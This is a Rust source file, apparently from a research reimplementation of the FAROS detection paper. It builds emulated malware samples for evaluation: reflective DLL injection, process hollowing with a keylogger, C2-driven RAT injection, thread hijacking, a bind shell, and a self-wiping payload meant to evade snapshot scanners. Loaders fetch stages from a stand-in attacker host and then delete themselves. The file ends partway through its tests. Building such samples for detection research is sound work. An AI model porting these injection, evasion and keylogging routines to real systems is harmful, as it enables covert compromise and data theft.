//! The in-memory-injecting malware corpus — the six samples of the paper's
//! evaluation (§VI) plus a transient (malfind-defeating) variant.
//!
//! | Sample | Paper counterpart | Technique |
//! |---|---|---|
//! | `reflective_dll_inject` | Metasploit meterpreter module | remote reflective DLL injection into `notepad.exe` |
//! | `reverse_tcp_dns` | Metasploit reverse_tcp_dns module | self-targeted reflective injection (loader = target) |
//! | `bypassuac_injection` | Metasploit bypassuac_injection | reflective injection into `firefox.exe` |
//! | `process_hollowing` | Lab 3-3 (Practical Malware Analysis) | hollowing `svchost.exe` with an embedded keylogger |
//! | `darkcomet_rat` | DarkComet | C2-driven code injection into `explorer.exe` |
//! | `njrat_rat` | Njrat | C2-driven code injection + info stealing |
//! | `transient_reflective` | §VI-B discussion | reflective injection that wipes its memory before exit |
//!
//! Every payload resolves its imports by *parsing the kernel export table*
//! (paper §II), which is precisely the read the FAROS invariant flags.

use crate::builder::{
    connect, emit_resolve_export, exit_process, finish_image, print_label, recv_into,
    send_label, sleep, sys, SCRATCH,
};
use crate::endpoints::{C2Server, EndpointFactory, PayloadHandler, ATTACKER_IP, HANDLER_PORT};
use crate::scenario::{Category, InjectionKind, Sample, SampleScenario};
use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_emu::mmu::Perms;
use faros_kernel::machine::IMAGE_BASE;
use faros_kernel::module::{hash_name, FdlImage, Section};
use faros_kernel::nt::Sysno;

/// Address where injected payloads execute: the first
/// `NtAllocateVirtualMemory` result in any process.
pub const PAYLOAD_BASE: u32 = 0x0100_0000;

/// A benign victim process: announces itself, idles through `loops` sleep
/// rounds, then exits cleanly.
pub fn benign_victim(banner: &str, loops: u32) -> FdlImage {
    let mut asm = Asm::new(IMAGE_BASE);
    print_label(&mut asm, "banner", banner.len() as u32);
    asm.mov_ri(Reg::Edi, loops);
    asm.label("idle");
    sleep(&mut asm, 400);
    asm.sub_ri(Reg::Edi, 1);
    asm.cmp_ri(Reg::Edi, 0);
    asm.jnz("idle");
    exit_process(&mut asm, 0);
    asm.label("banner");
    asm.raw(banner.as_bytes());
    finish_image(asm)
}

/// Builds a reflective payload: resolve `VirtualAlloc` and
/// `OutputDebugStringA` from the export table (the flagged reads), show the
/// paper's "pop-up message", optionally do extra work, then end.
fn reflective_payload(message: &str, extra: impl FnOnce(&mut Asm), terminal: PayloadEnd) -> Vec<u8> {
    let mut asm = Asm::new(PAYLOAD_BASE);
    // Resolve VirtualAlloc reflectively and call it (scratch allocation),
    // exactly the three-function dance the paper describes (§II).
    emit_resolve_export(&mut asm, hash_name("VirtualAlloc"), "va");
    asm.mov_rr(Reg::Ebp, Reg::Eax);
    asm.mov_ri(Reg::Ebx, 0xffff_ffff);
    asm.mov_ri(Reg::Ecx, 0x1000);
    asm.mov_ri(Reg::Edx, 0b011);
    asm.mov_ri(Reg::Esi, 0);
    asm.call_reg(Reg::Ebp);
    // Resolve OutputDebugStringA and pop the message.
    emit_resolve_export(&mut asm, hash_name("OutputDebugStringA"), "ods");
    asm.mov_rr(Reg::Ebp, Reg::Eax);
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, message.len() as u32);
    asm.call_reg(Reg::Ebp);
    extra(&mut asm);
    match terminal {
        PayloadEnd::ThreadExit => {
            asm.hlt();
        }
        PayloadEnd::Return => {
            asm.ret();
        }
        PayloadEnd::WipeAndThreadExit => {
            // Transient attack: zero the payload body (everything before
            // this wipe loop) so a post-mortem snapshot finds no decodable
            // payload prologue, then exit. The few loop instructions that
            // survive are indistinguishable from stray bytes.
            asm.mov_ri(Reg::Esi, PAYLOAD_BASE);
            asm.mov_label(Reg::Edi, "wipe_stop");
            asm.mov_ri(Reg::Edx, 0);
            asm.label("wipe_stop"); // loop head doubles as the wipe limit
            asm.cmp_rr(Reg::Esi, Reg::Edi);
            asm.jae("wiped");
            asm.st1(M::reg(Reg::Esi), Reg::Edx);
            asm.add_ri(Reg::Esi, 1);
            asm.jmp("wipe_stop");
            asm.label("wiped");
            asm.hlt();
        }
    }
    asm.label("msg");
    asm.raw(message.as_bytes());
    asm.assemble().expect("payload assembles")
}

#[derive(Clone, Copy)]
enum PayloadEnd {
    ThreadExit,
    Return,
    WipeAndThreadExit,
}

/// Builds the loader (`inject_client.exe`): download the payload, spawn the
/// victim, inject, start a remote thread, delete itself from disk.
fn reflective_loader(victim_path: &str, delete_self: bool) -> FdlImage {
    // Scratch layout: 0 sock, 4 recv count, 8.. out[proc_h, thread_h, pid],
    // 20 victim alloc base.
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    // Stage buffer in our own address space (RW).
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ebx, 0xffff_ffff),
            (Reg::Ecx, 0x1000),
            (Reg::Edx, 0b011),
            (Reg::Esi, SCRATCH + 24),
        ],
    );
    // Download the DLL (single staged chunk).
    recv_into(&mut asm, 0, PAYLOAD_BASE, 0x1000, 4);
    // Spawn the victim.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, victim_path.len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    // RWX region in the victim (lands at PAYLOAD_BASE there too).
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ecx, 0x1000),
            (Reg::Edx, 0b111),
            (Reg::Esi, SCRATCH + 20),
        ],
    );
    // WriteProcessMemory(victim, base, stage, recv_count).
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    asm.mov_ri(Reg::Edx, PAYLOAD_BASE);
    asm.ld4(Reg::Esi, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtWriteVirtualMemory, &[]);
    // CreateRemoteThread(victim, base).
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    if delete_self {
        // "After the injection, the loader is commonly deleted from the
        // system to prevent its detection" (§II).
        asm.mov_label(Reg::Ebx, "selfpath");
        sys(
            &mut asm,
            Sysno::NtDeleteFile,
            &[(Reg::Ecx, "C:/inject_client.exe".len() as u32)],
        );
    }
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    asm.label("vpath");
    asm.raw(victim_path.as_bytes());
    asm.label("selfpath");
    asm.raw(b"C:/inject_client.exe");
    finish_image(asm)
}

/// Sample 1 — remote reflective DLL injection via the meterpreter-style
/// module: `inject_client.exe` → `notepad.exe` (paper Fig. 7, Table II).
pub fn reflective_dll_inject() -> Sample {
    let payload = reflective_payload(
        "Meterpreter reflective DLL loaded",
        |_| {},
        PayloadEnd::ThreadExit,
    );
    let scenario = SampleScenario::new("reflective_dll_inject")
        .program("C:/inject_client.exe", reflective_loader("C:/notepad.exe", true))
        .program("C:/notepad.exe", benign_victim("notepad", 10))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/inject_client.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::ReflectiveDll),
        behaviors: Vec::new(),
    }
}

/// Sample 2 — `reverse_tcp_dns`: the shell code and the target process are
/// the same (paper Fig. 8). The loader downloads straight into its own RWX
/// buffer and calls it.
pub fn reverse_tcp_dns() -> Sample {
    let payload = reflective_payload("reverse_tcp_dns stage", |_| {}, PayloadEnd::Return);
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    // RWX in self; first alloc lands at PAYLOAD_BASE.
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ebx, 0xffff_ffff),
            (Reg::Ecx, 0x1000),
            (Reg::Edx, 0b111),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    recv_into(&mut asm, 0, PAYLOAD_BASE, 0x1000, 4);
    // Execute the downloaded stage in-process.
    asm.mov_ri(Reg::Ebp, PAYLOAD_BASE);
    asm.call_reg(Reg::Ebp);
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    let scenario = SampleScenario::new("reverse_tcp_dns")
        .program("C:/inject_client.exe", finish_image(asm))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/inject_client.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::ReflectiveDll),
        behaviors: Vec::new(),
    }
}

/// Sample 3 — `bypassuac_injection`: reflective injection into
/// `firefox.exe`, payload drops an "elevated" config file (paper Fig. 9).
pub fn bypassuac_injection() -> Sample {
    // A custom payload: resolve CreateFileA reflectively and drop an
    // "elevated" config file, then announce.
    let payload = {
        let mut asm = Asm::new(PAYLOAD_BASE);
        emit_resolve_export(&mut asm, hash_name("VirtualAlloc"), "va");
        emit_resolve_export(&mut asm, hash_name("CreateFileA"), "cf");
        asm.mov_rr(Reg::Ebp, Reg::Eax);
        // CreateFileA("C:/Windows/System32/uac.cfg") via the resolved stub.
        asm.mov_label(Reg::Ebx, "cfgpath");
        asm.mov_ri(Reg::Ecx, "C:/Windows/System32/uac.cfg".len() as u32);
        asm.mov_ri(Reg::Edx, 0);
        asm.mov_ri(Reg::Esi, SCRATCH + 0x40);
        asm.call_reg(Reg::Ebp);
        // Announce.
        emit_resolve_export(&mut asm, hash_name("OutputDebugStringA"), "ods");
        asm.mov_rr(Reg::Ebp, Reg::Eax);
        asm.mov_label(Reg::Ebx, "msg");
        asm.mov_ri(Reg::Ecx, "bypassuac stage".len() as u32);
        asm.call_reg(Reg::Ebp);
        asm.hlt();
        asm.label("msg");
        asm.raw(b"bypassuac stage");
        asm.label("cfgpath");
        asm.raw(b"C:/Windows/System32/uac.cfg");
        asm.assemble().expect("payload assembles")
    };
    let _ = payload.len();
    let scenario = SampleScenario::new("bypassuac_injection")
        .program("C:/inject_client.exe", reflective_loader("C:/firefox.exe", false))
        .program("C:/firefox.exe", benign_victim("firefox", 12))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/inject_client.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::ReflectiveDll),
        behaviors: Vec::new(),
    }
}

/// The hollowing payload: a keylogger that resolves `WriteFile` from the
/// export table, then drains the keyboard device into `C:/keys.log`.
fn keylogger_payload() -> Vec<u8> {
    // The original image is unmapped (hollowed), so all scratch must live
    // inside the payload's own RWX page.
    const PS: u32 = PAYLOAD_BASE + 0xc00;
    let mut asm = Asm::new(PAYLOAD_BASE);
    emit_resolve_export(&mut asm, hash_name("WriteFile"), "wf");
    asm.mov_rr(Reg::Ebp, Reg::Eax); // resolved WriteFile stub
    // Open the keyboard device and the log file.
    asm.mov_label(Reg::Ebx, "kbd");
    sys(
        &mut asm,
        Sysno::NtCreateFile,
        &[
            (Reg::Ecx, "DEV:/keyboard".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, PS),
        ],
    );
    asm.mov_label(Reg::Ebx, "log");
    sys(
        &mut asm,
        Sysno::NtCreateFile,
        &[
            (Reg::Ecx, "C:/keys.log".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, PS + 4),
        ],
    );
    // Three capture rounds.
    asm.mov_ri(Reg::Edi, 3);
    asm.label("cap");
    asm.ld4(Reg::Ebx, M::abs(PS));
    sys(
        &mut asm,
        Sysno::NtReadFile,
        &[(Reg::Ecx, PS + 0x40), (Reg::Edx, 16), (Reg::Esi, PS + 8)],
    );
    // WriteFile(log, buf, n) through the reflectively resolved pointer.
    asm.ld4(Reg::Ebx, M::abs(PS + 4));
    asm.mov_ri(Reg::Ecx, PS + 0x40);
    asm.ld4(Reg::Edx, M::abs(PS + 8));
    asm.mov_ri(Reg::Esi, 0);
    asm.call_reg(Reg::Ebp);
    asm.sub_ri(Reg::Edi, 1);
    asm.cmp_ri(Reg::Edi, 0);
    asm.jnz("cap");
    print_label(&mut asm, "msg", "keylogger active".len() as u32);
    exit_process(&mut asm, 0);
    asm.label("msg");
    asm.raw(b"keylogger active");
    asm.label("kbd");
    asm.raw(b"DEV:/keyboard");
    asm.label("log");
    asm.raw(b"C:/keys.log");
    asm.assemble().expect("payload assembles")
}

/// Sample 4 — process hollowing (paper Fig. 10, Lab 3-3): spawn
/// `svchost.exe` suspended, unmap its image, write an embedded keylogger
/// payload, redirect the main thread, resume. **No network involved** — the
/// payload arrives via the loader's own image file, so only the
/// cross-process trigger can catch it.
pub fn process_hollowing() -> Sample {
    let payload_bytes = keylogger_payload();
    // Scratch: 8.. out[proc_h, thread_h, pid], 20 alloc base, 0x60 ctx(40B).
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, "C:/svchost.exe".len() as u32),
            (Reg::Edx, 1), // suspended
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    // Hollow: unmap the original image.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(&mut asm, Sysno::NtUnmapViewOfSection, &[(Reg::Ecx, IMAGE_BASE)]);
    // Fresh RWX for the replacement image.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 20)],
    );
    // Write the embedded payload.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    asm.mov_label(Reg::Edx, "payload");
    sys(
        &mut asm,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Esi, payload_bytes.len() as u32)],
    );
    // Redirect the suspended main thread: get ctx, patch eip, set ctx.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtGetContextThread, &[(Reg::Ecx, SCRATCH + 0x60)]);
    asm.ld4(Reg::Edx, M::abs(SCRATCH + 20));
    asm.st4(M::abs(SCRATCH + 0x60 + 32), Reg::Edx);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtSetContextThread, &[(Reg::Ecx, SCRATCH + 0x60)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtResumeThread, &[]);
    exit_process(&mut asm, 0);
    asm.label("vpath");
    asm.raw(b"C:/svchost.exe");
    asm.label("payload");
    asm.raw(&payload_bytes);

    let scenario = SampleScenario::new("process_hollowing")
        .program("C:/process_hollowing.exe", finish_image(asm))
        .program("C:/svchost.exe", benign_victim("svchost service", 6))
        .seed_file("DEV:/keyboard", b"the quick brown fox jumps over!!".to_vec())
        .autostart("C:/process_hollowing.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::Hollowing),
        behaviors: Vec::new(),
    }
}

/// Builds a RAT-style code-injecting sample: connect to the C2, pull the
/// payload, inject it into a spawned host process.
fn rat_sample(
    name: &str,
    exe: &str,
    victim: &str,
    victim_banner: &str,
    port: u16,
    payload_msg: &'static str,
    behaviors: Vec<crate::scenario::Behavior>,
) -> Sample {
    let payload = reflective_payload(payload_msg, |_| {}, PayloadEnd::ThreadExit);
    let exe_path = format!("C:/{exe}");
    let victim_path = format!("C:/{victim}");

    // Scratch: 0 sock, 4 count, 8.. out triple, 20 alloc base.
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, port, 0);
    // C2 greeting dance: read HELO, check in.
    recv_into(&mut asm, 0, SCRATCH + 0x100, 16, 4);
    send_label(&mut asm, 0, "checkin", 7);
    // The C2's first command *is* the staged payload.
    recv_into(&mut asm, 0, SCRATCH + 0x200, 0x400, 4);
    // Spawn the host process and inject.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, victim_path.len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 20)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    asm.mov_ri(Reg::Edx, SCRATCH + 0x200);
    asm.ld4(Reg::Esi, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtWriteVirtualMemory, &[]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    // Report success to the C2 and linger briefly like a real RAT.
    send_label(&mut asm, 0, "done", 4);
    sleep(&mut asm, 300);
    exit_process(&mut asm, 0);
    asm.label("checkin");
    asm.raw(b"CHECKIN");
    asm.label("done");
    asm.raw(b"DONE");
    asm.label("vpath");
    asm.raw(victim_path.as_bytes());

    let scenario = SampleScenario::new(name)
        .program(&exe_path, finish_image(asm))
        .program(&victim_path, benign_victim(victim_banner, 10))
        .endpoint(EndpointFactory::new(ATTACKER_IP, port, move || {
            C2Server::new(vec![payload.clone()])
        }))
        .autostart(&exe_path);
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::CodeInjection),
        behaviors,
    }
}

/// Sample 5 — DarkComet-style RAT: remote-shell code injection into
/// `explorer.exe`.
pub fn darkcomet_rat() -> Sample {
    use crate::scenario::Behavior::*;
    rat_sample(
        "darkcomet_rat",
        "darkcomet.exe",
        "explorer.exe",
        "explorer",
        HANDLER_PORT,
        "DarkComet remote shell",
        vec![Idle, Run, KeyLogger, RemoteDesktop, Upload, Download, RemoteShell],
    )
}

/// Sample 6 — Njrat-style RAT: code injection into `winlogon.exe` for
/// information stealing.
pub fn njrat_rat() -> Sample {
    use crate::scenario::Behavior::*;
    rat_sample(
        "njrat_rat",
        "njrat.exe",
        "winlogon.exe",
        "winlogon",
        1177, // njRAT's default port
        "Njrat stealer stage",
        vec![Idle, Run, FileTransfer, Upload, Download, RemoteShell],
    )
}

/// Extension sample — thread-execution hijacking (the SetThreadContext
/// cousin of process hollowing, cf. the cross-process techniques the
/// paper's §I cites): the loader downloads a stage, suspends the *running*
/// main thread of an existing victim, redirects its context into the
/// injected code, and resumes it. No new thread, no hollowed image —
/// event-based tools see only a suspend/resume pair.
pub fn thread_hijack() -> Sample {
    let payload = reflective_payload("hijacked thread", |_| {}, PayloadEnd::ThreadExit);
    // Scratch: 0 sock, 4 count, 8.. out triple, 20 alloc base, 0x60 ctx.
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    recv_into(&mut asm, 0, SCRATCH + 0x200, 0x400, 4);
    // Spawn the victim RUNNING; let it get going.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, "C:/svchost.exe".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    sleep(&mut asm, 200);
    // Inject the stage.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 20)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    asm.mov_ri(Reg::Edx, SCRATCH + 0x200);
    asm.ld4(Reg::Esi, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtWriteVirtualMemory, &[]);
    // Hijack: suspend the live thread, redirect, resume. The stage exits
    // the thread when done, taking the (thread-less) victim down with it.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtSuspendThread, &[]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtGetContextThread, &[(Reg::Ecx, SCRATCH + 0x60)]);
    asm.ld4(Reg::Edx, M::abs(SCRATCH + 20));
    asm.st4(M::abs(SCRATCH + 0x60 + 32), Reg::Edx); // ctx.eip = stage
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtSetContextThread, &[(Reg::Ecx, SCRATCH + 0x60)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(&mut asm, Sysno::NtResumeThread, &[]);
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    asm.label("vpath");
    asm.raw(b"C:/svchost.exe");

    let scenario = SampleScenario::new("thread_hijack")
        .program("C:/hijack.exe", finish_image(asm))
        .program("C:/svchost.exe", benign_victim("svchost service", 20))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/hijack.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::CodeInjection),
        behaviors: Vec::new(),
    }
}

/// Extension sample — a *bind-shell* RAT (Bozok/Pandora style servers
/// listen rather than dial out): the implant binds a port and waits; the
/// operator connects in, delivers the stage, and the implant injects it
/// into a spawned host process. Exercises the inbound-connection path of
/// the network substrate end to end.
pub fn bindshell_rat() -> Sample {
    let payload = reflective_payload("bind-shell stage", |_| {}, PayloadEnd::ThreadExit);
    let payload_for_dialer = payload.clone();

    // Scratch: 0 listen sock, 4 accepted sock, 8 count, 12.. out triple,
    // 24 alloc base.
    let mut asm = Asm::new(IMAGE_BASE);
    sys(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, SCRATCH)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtSocketBind, &[(Reg::Ecx, 5555)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtSocketListen, &[]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, SCRATCH + 4)]);
    // The operator pushes the stage on connect.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 4));
    sys(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, SCRATCH + 0x200), (Reg::Edx, 0x400), (Reg::Esi, SCRATCH + 8)],
    );
    // Spawn the host and inject.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, "C:/spoolsv.exe".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 12),
        ],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 24)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 24));
    asm.mov_ri(Reg::Edx, SCRATCH + 0x200);
    asm.ld4(Reg::Esi, M::abs(SCRATCH + 8));
    sys(&mut asm, Sysno::NtWriteVirtualMemory, &[]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 12));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 24));
    sys(
        &mut asm,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    exit_process(&mut asm, 0);
    asm.label("vpath");
    asm.raw(b"C:/spoolsv.exe");

    let scenario = SampleScenario::new("bindshell_rat")
        .program("C:/bindshell.exe", finish_image(asm))
        .program("C:/spoolsv.exe", benign_victim("spoolsv", 10))
        .inbound(crate::endpoints::InboundFactory::new(
            (ATTACKER_IP, 31337),
            5555,
            400,
            move || OperatorDialer { stage: payload_for_dialer.clone() },
        ))
        .autostart("C:/bindshell.exe");
    let _ = payload;
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::CodeInjection),
        behaviors: Vec::new(),
    }
}

/// The operator's side of a bind-shell session: pushes the stage on
/// connect.
#[derive(Debug)]
struct OperatorDialer {
    stage: Vec<u8>,
}

impl faros_kernel::net::RemoteEndpoint for OperatorDialer {
    fn on_connect(&mut self) -> Vec<Vec<u8>> {
        vec![self.stage.clone()]
    }
    fn on_data(&mut self, _d: &[u8]) -> Vec<Vec<u8>> {
        Vec::new()
    }
}

/// Extension sample — the transient attack of §VI-B: identical to
/// [`reflective_dll_inject`] except the payload wipes itself from memory
/// before exiting, defeating snapshot scanners (malfind) while remaining
/// visible to FAROS' live information-flow view.
pub fn transient_reflective() -> Sample {
    let payload =
        reflective_payload("transient stage", |_| {}, PayloadEnd::WipeAndThreadExit);
    let scenario = SampleScenario::new("transient_reflective")
        .program("C:/inject_client.exe", reflective_loader("C:/notepad.exe", true))
        .program("C:/notepad.exe", benign_victim("notepad", 10))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/inject_client.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::ReflectiveDll),
        behaviors: Vec::new(),
    }
}

/// The six samples of the paper's §VI evaluation, in presentation order.
pub fn paper_samples() -> Vec<Sample> {
    vec![
        reflective_dll_inject(),
        reverse_tcp_dns(),
        bypassuac_injection(),
        process_hollowing(),
        darkcomet_rat(),
        njrat_rat(),
    ]
}

/// All injecting samples, including the transient extension.
pub fn all_injecting_samples() -> Vec<Sample> {
    let mut v = paper_samples();
    v.push(transient_reflective());
    v.push(thread_hijack());
    v.push(bindshell_rat());
    v
}

/// The corpus' attack payload blobs wrapped as single-section FDL images at
/// [`PAYLOAD_BASE`], mapped RWX exactly as the injectors allocate them —
/// the form an analyst would carve out of a memory dump. Ground truth for
/// the static linter: each must draw at least one W^X finding, in contrast
/// to the W^X-clean images `builder::finish_image` emits for every
/// legitimate corpus program.
pub fn payload_images() -> Vec<(String, FdlImage)> {
    let blobs = [
        (
            "reflective_stage",
            reflective_payload("Meterpreter reflective DLL loaded", |_| {}, PayloadEnd::ThreadExit),
        ),
        (
            "transient_stage",
            reflective_payload("transient stage", |_| {}, PayloadEnd::WipeAndThreadExit),
        ),
        ("keylogger_stage", keylogger_payload()),
    ];
    blobs
        .into_iter()
        .map(|(name, bytes)| {
            let image = FdlImage {
                entry: PAYLOAD_BASE,
                export_table_va: 0,
                sections: vec![Section { va: PAYLOAD_BASE, data: bytes, perms: Perms::RWX }],
                exports: Vec::new(),
            };
            (name.to_string(), image)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_kernel::event::NullObserver;
    use faros_kernel::machine::RunExit;
    use faros_kernel::net::NetworkFabric;
    use faros_replay::Scenario as _;

    fn run_sample(sample: &Sample) -> faros_kernel::Machine {
        let fabric = NetworkFabric::new_live(sample.scenario.guest_ip());
        let mut machine = sample.scenario.build(fabric, &mut NullObserver).unwrap();
        let exit = machine.run(20_000_000, &mut NullObserver);
        assert_eq!(exit, RunExit::AllExited, "{} must terminate", sample.name());
        machine
    }

    #[test]
    fn reflective_dll_inject_payload_runs_in_notepad() {
        let machine = run_sample(&reflective_dll_inject());
        let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
        assert!(lines.contains(&"Meterpreter reflective DLL loaded"));
        let notepad = machine.process_by_name("notepad.exe").unwrap();
        let payload_line = machine
            .console()
            .iter()
            .find(|(_, s)| s.contains("Meterpreter"))
            .unwrap();
        assert_eq!(payload_line.0, notepad.pid, "pop-up must come from the victim");
        // Loader deleted itself.
        assert!(machine.fs.deleted_paths().contains(&"C:/inject_client.exe".to_string()));
    }

    #[test]
    fn reverse_tcp_dns_runs_in_self() {
        let machine = run_sample(&reverse_tcp_dns());
        let inject = machine.process_by_name("inject_client.exe").unwrap();
        let line = machine
            .console()
            .iter()
            .find(|(_, s)| s.contains("reverse_tcp_dns"))
            .expect("stage must announce");
        assert_eq!(line.0, inject.pid);
    }

    #[test]
    fn bypassuac_targets_firefox_and_drops_config() {
        let machine = run_sample(&bypassuac_injection());
        let firefox = machine.process_by_name("firefox.exe").unwrap();
        let line = machine
            .console()
            .iter()
            .find(|(_, s)| s.contains("bypassuac"))
            .expect("stage must announce");
        assert_eq!(line.0, firefox.pid);
        assert!(machine.fs.exists("C:/Windows/System32/uac.cfg"));
    }

    #[test]
    fn hollowing_replaces_svchost_and_logs_keys() {
        let machine = run_sample(&process_hollowing());
        let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
        assert!(lines.contains(&"keylogger active"));
        assert!(
            !lines.contains(&"svchost service"),
            "the hollowed entry point must never run"
        );
        let log = machine.fs.read("C:/keys.log", 0, 256).unwrap();
